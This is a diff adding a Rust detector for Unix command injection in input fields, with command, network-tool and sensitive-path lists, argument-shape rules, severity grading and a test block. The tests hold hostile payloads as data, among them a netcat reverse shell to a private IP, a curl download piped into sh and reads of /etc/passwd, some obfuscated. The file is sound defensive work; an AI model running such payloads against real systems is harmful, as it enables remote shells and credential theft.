@@ -1,0 +1,488 @@
+//! Unix command injection: "command syntax in a data field". After undoing the shell's own
+//! obfuscation (`shell_deobf`), the tokenizer walks the text for *command positions* — the start
+//! of the value, or right after `;`, `|`, `||`, `&&`, `&`, a newline, `$(` or a backtick — and
+//! asks whether a known command word stands there with arguments of the shape that command
+//! takes (`cat` wants a path, `sleep` a number, `curl` a URL or host, `sh` a flag or a pipe into
+//! it). English after a separator (`Tom & Jerry; cat lovers`) has no such arguments, which is
+//! what keeps prose quiet without a list of payloads.
+//!
+//! Levels: a disguised command word (quotes inside it, `$IFS`, globs, `rev`, base64) counts at
+//! level 1 — nobody types those by accident. A plain command after a separator counts at level 1
+//! in a short value and at level 2 inside prose or long multi-line code (shell pasted in a chat
+//! message). A value that merely *starts* with a command (`curl -X GET https://api...`, as API
+//! consoles post) counts at level 1 only with a clear attack argument (a sensitive file, a
+//! reverse shell, a download piped into a shell), otherwise at level 2.
+
+use crate::shell_deobf::{deobfuscate, percent_layer};
+use crate::{Check, Finding, Input};
+
+pub struct ShellUnix;
+
+pub static SHELL_UNIX: ShellUnix = ShellUnix;
+
+/// What a command wants as arguments before it reads as a command rather than a word.
+#[derive(Clone, Copy, PartialEq)]
+enum Class {
+    /// Meaningful alone: `; id`, `|whoami`. Arguments, if any, must be flags or paths.
+    Recon,
+    /// Reads or touches files: needs a path, file name or variable (`cat /etc/passwd`).
+    File,
+    /// Network tools: needs a URL, host, IP, port or flag.
+    Net,
+    /// Shells and interpreters: a flag (`-c`, `-i`, `-e`), a script path, or being piped into.
+    Shell,
+    /// `sleep` / `timeout`: a number.
+    Delay,
+    /// `echo` / `printf`: a variable, a redirect, a flag or an upper-case marker.
+    Echo,
+}
+
+/// (command, class, distinctive): distinctive words are never ordinary field values, so a value
+/// that is only that word counts.
+const COMMANDS: &[(&str, Class, bool)] = &[
+    ("whoami", Class::Recon, true), ("id", Class::Recon, false), ("uname", Class::Recon, true),
+    ("ifconfig", Class::Recon, true), ("pwd", Class::Recon, false), ("hostname", Class::Recon, false),
+    ("ls", Class::Recon, false), ("ps", Class::Recon, false), ("env", Class::Recon, false),
+    ("printenv", Class::Recon, true), ("netstat", Class::Recon, true), ("uptime", Class::Recon, false),
+    ("who", Class::Recon, false), ("getent", Class::Recon, true), ("dir", Class::Recon, false),
+    ("cat", Class::File, false), ("head", Class::File, false), ("tail", Class::File, false),
+    ("more", Class::File, false), ("less", Class::File, false), ("nl", Class::File, false),
+    ("tac", Class::File, false), ("strings", Class::File, false), ("xxd", Class::File, false),
+    ("od", Class::File, false), ("base64", Class::File, false), ("grep", Class::File, false),
+    ("find", Class::File, false), ("rm", Class::File, false), ("touch", Class::File, false),
+    ("chmod", Class::File, false), ("cp", Class::File, false), ("mv", Class::File, false),
+    ("wc", Class::File, false), ("mkfifo", Class::File, false), ("crontab", Class::File, false),
+    ("kill", Class::File, false), ("useradd", Class::File, false), ("awk", Class::File, false),
+    ("curl", Class::Net, false), ("wget", Class::Net, false), ("nc", Class::Net, false),
+    ("ncat", Class::Net, false), ("netcat", Class::Net, false), ("socat", Class::Net, false),
+    ("telnet", Class::Net, false), ("ping", Class::Net, false), ("nslookup", Class::Net, false),
+    ("dig", Class::Net, false), ("host", Class::Net, false), ("traceroute", Class::Net, false),
+    ("tftp", Class::Net, false), ("ftp", Class::Net, false), ("ssh", Class::Net, false),
+    ("sh", Class::Shell, false), ("bash", Class::Shell, false), ("zsh", Class::Shell, false),
+    ("ksh", Class::Shell, false), ("dash", Class::Shell, false), ("csh", Class::Shell, false),
+    ("busybox", Class::Shell, false), ("python", Class::Shell, false), ("python2", Class::Shell, false),
+    ("python3", Class::Shell, false), ("perl", Class::Shell, false), ("php", Class::Shell, false),
+    ("ruby", Class::Shell, false), ("node", Class::Shell, false), ("lua", Class::Shell, false),
+    ("sleep", Class::Delay, false), ("timeout", Class::Delay, false),
+    ("echo", Class::Echo, false), ("printf", Class::Echo, false),
+];
+
+/// Prefixes that run the next word as the command.
+const WRAPPERS: &[&str] = &["sudo", "nohup", "exec", "time", "command", "xargs", "eval"];
+
+const SENSITIVE: &[&str] = &[
+    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/hostname",
+    "/proc/self", "/dev/tcp/", "/dev/udp/", "/root/", "/.ssh", "/var/www", "/tmp/",
+];
+
+#[derive(Clone, Copy, PartialEq, Debug)]
+enum Opener {
+    Start,
+    Sep,
+    Pipe,
+    Subst,
+}
+
+/// One command found at a command position.
+#[derive(Clone, Copy, Debug)]
+struct Candidate {
+    opener: Opener,
+    /// The command word or its first argument was produced by de-obfuscation.
+    obfuscated: bool,
+    /// A clear attack argument: sensitive path, reverse shell, download into a shell.
+    strong: bool,
+    /// The value is nothing but this bare, distinctive command.
+    lone_distinct: bool,
+}
+
+impl Check for ShellUnix {
+    fn detector(&self) -> &'static str {
+        "command-injection"
+    }
+
+    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
+        let text = input.text.as_bytes();
+        if text.len() < 2 {
+            return None;
+        }
+        // A double-encoded payload arrives with `%0A`, `%20` still in it.
+        let unescaped = if input.bytes.contains(b'%') { percent_layer(text) } else { None };
+        let text = unescaped.as_deref().unwrap_or(text);
+        // Unix commands are lower-case.
+        if !text.iter().any(|b| b.is_ascii_lowercase()) {
+            return None;
+        }
+        // A query value written with `+` for spaces and no real space: read `+` as a space.
+        let spaced;
+        let text = if text.contains(&b'+') && !text.contains(&b' ') {
+            // ... except between digits (`$((20+58))`).
+            spaced = (0..text.len())
+                .map(|k| {
+                    let digits = k > 0 && text[k - 1].is_ascii_digit() && text.get(k + 1).is_some_and(|c| c.is_ascii_digit());
+                    if text[k] == b'+' && !digits { b' ' } else { text[k] }
+                })
+                .collect::<Vec<u8>>();
+            &spaced[..]
+        } else {
+            text
+        };
+        let bytes = if unescaped.is_some() { crate::ByteSet::of(std::str::from_utf8(text).unwrap_or("")) } else { input.bytes };
+        // Without a separator, substitution or obfuscation byte, only a value that starts
+        // with a command can matter.
+        let obfuscation = bytes.any(b"'\"\\${?*[`|");
+        if !obfuscation && !bytes.any(b";&\n\r") && !starts_with_command(text) {
+            return None;
+        }
+        let candidates = if obfuscation {
+            let d = deobfuscate(text);
+            scan(&d.text, &d.marks)
+        } else {
+            scan(text, &[])
+        };
+        let long = !candidates.is_empty() && (is_long_or_prose(text) || starts_script(text));
+        let mut best: Option<Finding> = None;
+        for c in candidates {
+            let (reason, level) = grade(&c, long);
+            if level <= input.sensitivity && best.is_none_or(|b| level < b.level) {
+                best = Some(Finding { reason, score: 0.95, level });
+            }
+        }
+        best
+    }
+}
+
+fn grade(c: &Candidate, long: bool) -> (&'static str, u8) {
+    // Pasted scripts in chat messages carry markdown escapes (`\_`) and quoting that looks
+    // like disguise, so even an obfuscated command in long text or prose waits for level 2.
+    if c.obfuscated {
+        return ("command-injection:unix-obfuscated", if long { 2 } else { 1 });
+    }
+    let reason = if c.opener == Opener::Subst { "command-injection:unix-substitution" } else { "command-injection:unix-command" };
+    let level = match c.opener {
+        Opener::Start if c.strong || c.lone_distinct => 1,
+        Opener::Start => 2,
+        _ => 1,
+    };
+    (reason, if long { level.max(2) } else { level })
+}
+
+fn starts_with_command(text: &[u8]) -> bool {
+    let t = text.trim_ascii_start();
+    let len = t.iter().take_while(|&&c| !c.is_ascii_whitespace()).count();
+    let word = &t[..len];
+    let base = word.rsplit(|&c| c == b'/').next().unwrap_or(word);
+    lookup(base).is_some()
+}
+
+/// Every command word the tokenizer knows (glob paths are resolved against them).
+pub(crate) fn command_names() -> impl Iterator<Item = &'static str> {
+    COMMANDS.iter().map(|c| c.0)
+}
+
+fn lookup(word: &[u8]) -> Option<(Class, bool)> {
+    COMMANDS.iter().find(|(n, _, _)| n.as_bytes() == word).map(|&(_, c, d)| (c, d))
+}
+
+fn is_sep(b: u8) -> bool {
+    matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b')' | b'<' | b'>')
+}
+
+/// Every command position holding a known command with the right argument shape.
+fn scan(t: &[u8], marks: &[bool]) -> Vec<Candidate> {
+    let mut found = Vec::new();
+    let n = t.len();
+    let (mut i, mut opener, mut depth, mut in_backtick) = (0, Some(Opener::Start), 0usize, false);
+    while i < n && found.len() < 8 {
+        if let Some(op) = opener.take() {
+            while i < n && matches!(t[i], b' ' | b'\t') {
+                i += 1;
+            }
+            if i < n && (t[i] == b'(' || t[i] == b'{' && t.get(i + 1) == Some(&b' ')) {
+                // A subshell or group: its first word is again in command position.
+                opener = Some(op);
+                i += 1;
+                continue;
+            }
+            if let Some((c, end)) = command_at(t, marks, i, op, depth > 0) {
+                found.push(c);
+                i = end;
+            }
+            continue;
+        }
+        match t[i] {
+            b';' | b'\n' | b'\r' => opener = Some(Opener::Sep),
+            b'&' => {
+                if t.get(i + 1) == Some(&b'&') {
+                    i += 1;
+                }
+                // `2>&1`, `>&` are redirections, not separators.
+                if i == 0 || t[i - 1] != b'>' {
+                    opener = Some(Opener::Sep);
+                }
+            }
+            b'|' => {
+                opener = Some(if t.get(i + 1) == Some(&b'|') {
+                    i += 1;
+                    Opener::Sep
+                } else {
+                    Opener::Pipe
+                });
+            }
+            b'`' => {
+                in_backtick = !in_backtick;
+                if in_backtick {
+                    opener = Some(Opener::Subst);
+                }
+            }
+            b'$' if t.get(i + 1) == Some(&b'(') && t.get(i + 2) != Some(&b'(') => {
+                opener = Some(Opener::Subst);
+                i += 1;
+            }
+            b'(' if exec_call(t, i) => opener = Some(Opener::Subst),
+            b'(' => depth += 1,
+            b')' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+        i += 1;
+    }
+    found
+}
+
+/// Functions whose string argument is a shell command line (PHP, Python, Node, Perl, Ruby).
+const EXEC_FUNCTIONS: &[&str] = &["system", "exec", "shell_exec", "passthru", "popen", "proc_open", "eval", "execSync", "spawnSync", "check_output", "getoutput", "pcntl_exec"];
+
+/// `(` right after an exec-style function name: what follows is a command line.
+fn exec_call(t: &[u8], open: usize) -> bool {
+    let start = open.saturating_sub(16);
+    let before = &t[start..open];
+    let len = before.iter().rev().take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_').count();
+    let name = &before[before.len() - len..];
+    EXEC_FUNCTIONS.iter().any(|f| f.as_bytes() == name)
+}
+
+fn word_end(t: &[u8], i: usize) -> usize {
+    i + t[i..].iter().take(256).take_while(|&&c| !c.is_ascii_whitespace() && !is_sep(c)).count()
+}
+
+/// The command at `i` (a command position), and where scanning goes on.
+fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: bool) -> Option<(Candidate, usize)> {
+    let n = t.len();
+    let mut end = word_end(t, i);
+    // Skip wrappers and `NAME=value` assignments in front of the command.
+    for _ in 0..3 {
+        let w = &t[i..end];
+        let assignment = w.iter().position(|&c| c == b'=').is_some_and(|p| p > 0 && w[..p].iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_'));
+        if !(assignment || WRAPPERS.iter().any(|x| x.as_bytes() == w)) || end >= n || !matches!(t[end], b' ' | b'\t') {
+            break;
+        }
+        i = end + 1 + t[end + 1..].iter().take_while(|&&c| c == b' ').count();
+        end = word_end(t, i);
+    }
+    let word = &t[i..end];
+    let word = trim_tail(word);
+    if word.is_empty() {
+        return None;
+    }
+    let (base, absolute) = match word.iter().rposition(|&c| c == b'/') {
+        Some(p) if word[0] == b'/' && p > 0 => (&word[p + 1..], true),
+        Some(_) => return None,
+        None => (word, false),
+    };
+    let (class, distinct) = lookup(base)?;
+
+    // Arguments up to the next separator.
+    let mut args: Vec<(usize, usize)> = Vec::new();
+    let mut j = end;
+    let mut redirect = false;
+    while j < n && args.len() < 8 {
+        match t[j] {
+            b' ' | b'\t' => j += 1,
+            b'>' | b'<' => {
+                redirect = true;
+                j += 1;
+            }
+            c if is_sep(c) => break,
+            // A comment ends the command.
+            b'#' => {
+                while j < n && !matches!(t[j], b'\n' | b'\r') {
+                    j += 1;
+                }
+                break;
+            }
+            _ => {
+                let e = word_end(t, j);
+                args.push((j, e));
+                j = e;
+            }
+        }
+    }
+    let seg_end = j;
+    let piped_to_shell = t.get(seg_end) == Some(&b'|') && {
+        let rest = &t[seg_end + 1..];
+        let rest = rest.trim_ascii_start();
+        let w = &rest[..word_end(rest, 0)];
+        let b = w.rsplit(|&c| c == b'/').next().unwrap_or(w);
+        matches!(lookup(b), Some((Class::Shell, _)))
+    };
+    let arg = |k: usize| -> &[u8] { args.get(k).map_or(&b""[..], |&(s, e)| &t[s..e]) };
+    let shapes: Vec<Shape> = (0..args.len()).map(|k| shape(arg(k))).collect();
+    let plain = shapes.iter().filter(|&&s| s == Shape::Plain).count();
+    let any = |want: &[Shape]| shapes.iter().any(|s| want.contains(s));
+    let sensitive = args.iter().any(|&(s, e)| SENSITIVE.iter().any(|p| contains(&t[s..e], p.as_bytes())));
+
+    let shaped = match class {
+        Class::Recon => plain == 0 && !(args.is_empty() && in_paren),
+        Class::File => plain <= 1 && any(&[Shape::Path, Shape::File, Shape::Var]) || redirect && plain == 0,
+        Class::Net => plain == 0 && any(&[Shape::Url, Shape::Host, Shape::Flag, Shape::Number, Shape::Var]),
+        Class::Shell => {
+            args.is_empty() && opener == Opener::Pipe
+                || matches!(shapes.first(), Some(Shape::Flag | Shape::Path | Shape::File))
+                || redirect && plain == 0
+        }
+        Class::Delay => matches!(shapes.first(), Some(Shape::Number)) && args.len() <= 2,
+        Class::Echo => {
+            !args.is_empty() && (redirect || piped_to_shell || any(&[Shape::Var, Shape::Flag, Shape::Caps]) || args.iter().any(|&(s, e)| t[s..e].contains(&b'$')))
+        }
+    };
+    let first_arg_end = args.first().map_or(end, |a| a.1);
+    let obfuscated = marks.get(i..first_arg_end.min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
+    // A disguised `echo` or absolute binary path needs no argument shape (`echo$IFS$9XYZ//`,
+    // `/bin$u/bash$u <ip>` are probes); other commands keep theirs, so a brace list such as `{id,name}` stays a field list.
+    if !(shaped || obfuscated && (class == Class::Echo || absolute) && args.len() <= 3) {
+        return None;
+    }
+    let reverse_shell = contains(&t[i..seg_end], b"/dev/tcp/")
+        || class == Class::Net && args.iter().any(|&(s, e)| matches!(&t[s..e], b"-e" | b"-c" | b"exec:"))
+        || class == Class::Shell && arg(0) == b"-i";
+    let interp_code = class == Class::Shell && matches!(arg(0), b"-c" | b"-e" | b"-r");
+    let strong = sensitive || reverse_shell || interp_code || piped_to_shell || absolute;
+    let whole_value = seg_end >= n && t[..i].iter().all(|c| c.is_ascii_whitespace());
+    let lone_distinct = distinct && whole_value && plain == 0;
+    Some((Candidate { opener, obfuscated, strong, lone_distinct }, end.max(i + 1)))
+}
+
+#[derive(Clone, Copy, PartialEq, Debug)]
+enum Shape {
+    Flag,
+    Path,
+    File,
+    Url,
+    Host,
+    Number,
+    Var,
+    Caps,
+    Plain,
+}
+
+const FILE_EXTENSIONS: &[&str] = &["txt", "php", "sh", "py", "pl", "conf", "cnf", "ini", "log", "db", "htaccess", "htpasswd", "bak", "jsp", "asp", "aspx", "cgi", "xml", "json", "sql", "key", "pem"];
+
+/// A word without the quote or `#` that closes an injected value (`org#`, `passwd'`).
+fn trim_tail(w: &[u8]) -> &[u8] {
+    let keep = w.len() - w.iter().rev().take_while(|&&c| matches!(c, b'#' | b'\'' | b'"')).count();
+    &w[..keep]
+}
+
+fn shape(a: &[u8]) -> Shape {
+    let a = trim_tail(a);
+    let Some(&first) = a.first() else { return Shape::Plain };
+    if first == b'-' && a.get(1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-') {
+        return Shape::Flag;
+    }
+    if first == b'/' || a.starts_with(b"./") || a.starts_with(b"../") || first == b'~' {
+        return Shape::Path;
+    }
+    if first == b'$' {
+        return Shape::Var;
+    }
+    if contains(a, b"://") {
+        return Shape::Url;
+    }
+    if a.iter().all(|c| c.is_ascii_digit()) {
+        return Shape::Number;
+    }
+    // `host/path` without a scheme, as wget and curl take it.
+    if let Some(slash) = a.iter().position(|&c| c == b'/') {
+        if slash > 0 && matches!(shape(&a[..slash]), Shape::Host) {
+            return Shape::Url;
+        }
+    }
+    if a.iter().all(|&c| c.is_ascii_digit() || c == b'.' || c == b':') && a.iter().filter(|&&c| c == b'.').count() == 3 {
+        return Shape::Host;
+    }
+    let hosty = a.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':'));
+    if let Some(dot) = a.iter().rposition(|&c| c == b'.') {
+        let ext = &a[dot + 1..];
+        if dot > 0 && FILE_EXTENSIONS.iter().any(|e| e.as_bytes() == ext) {
+            return Shape::File;
+        }
+        if hosty && a[0].is_ascii_alphanumeric() && ext.len() >= 2 && a.iter().filter(|&&c| c == b'.').count() >= 1 && dot + 1 < a.len() {
+            return Shape::Host;
+        }
+    }
+    if a.len() >= 4 && a.iter().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_') {
+        return Shape::Caps;
+    }
+    Shape::Plain
+}
+
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    needle.len() <= hay.len() && hay.windows(needle.len()).any(|w| w == needle)
+}
+
+/// Words of running English that command lines do not use.
+const FUNCTION_WORDS: &[&str] = &[
+    "the", "a", "an", "to", "of", "and", "is", "it", "you", "that", "this", "with", "on", "how", "what",
+    "i", "my", "can", "be", "are", "not", "have", "your", "me", "we", "please", "why", "when", "but", "or",
+    "so", "if", "as", "at", "from", "will", "would", "should", "does", "there", "which", "about", "like",
+];
+
+/// A field that is mostly prose, a markdown code block, or long multi-line source: a command
+/// in it is more likely pasted text than an injection, so its findings move to level 2.
+pub fn is_long_or_prose(text: &[u8]) -> bool {
+    if contains(text, b"```") {
+        return true;
+    }
+    let lines = text.iter().filter(|&&c| c == b'\n').count();
+    if lines >= 3 && text.len() > 120 {
+        return true;
+    }
+    let (mut tokens, mut function) = (0usize, 0usize);
+    for w in text.split(|c| c.is_ascii_whitespace()).filter(|w| !w.is_empty()) {
+        tokens += 1;
+        let core = w.strip_suffix(b",").or_else(|| w.strip_suffix(b".")).or_else(|| w.strip_suffix(b"?")).unwrap_or(w);
+        if core.len() <= 6 && FUNCTION_WORDS.iter().any(|f| core.eq_ignore_ascii_case(f.as_bytes())) {
+            function += 1;
+        }
+    }
+    // Long source with many tokens (a script whose newlines the decoded view collapsed), or
+    // running English: function words that command lines do not use.
+    text.len() > 300 && tokens >= 30 || function >= 4 || function >= 2 && tokens >= 10
+}
+
+/// A value that opens with a script construct is a pasted script, not a value broken out of.
+fn starts_script(text: &[u8]) -> bool {
+    let start = text.trim_ascii_start();
+    [&b"#!"[..], b"while ", b"for ", b"if [", b"until ", b"case ", b"function ", b"do "].iter().any(|k| start.starts_with(k))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn level(s: &str) -> Option<u8> {
+        let mut input = Input::new(s);
+        input.sensitivity = 4;
+        SHELL_UNIX.inspect(&input).map(|f| f.level)
+    }
+
+    #[test]
+    fn commands_and_prose() {
+        for s in ["; id", "| cat /etc/passwd", "$(whoami)", "`id`", "&& curl http://x/s.sh|sh", ";sleep 5;", "a;c'a't /etc/passwd", "/???/??t /???/p??s??", "echo aWQ= | base64 -d | sh", "x|nc -e /bin/sh 10.0.0.1 4444"] {
+            assert_eq!(level(s), Some(1), "{s}");
+        }
+        for s in ["Tom & Jerry; cat lovers", "ls -la output explained", "report.txt", "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0; U; id) Presto/2.4.15"] {
+            assert_eq!(level(s), None, "{s}");
+        }
+        assert_ne!(level("curl -X GET -H \"Authorization: Bearer $TOKEN\" \"https://api.example.com/v2/x\""), Some(1));
+    }
+}
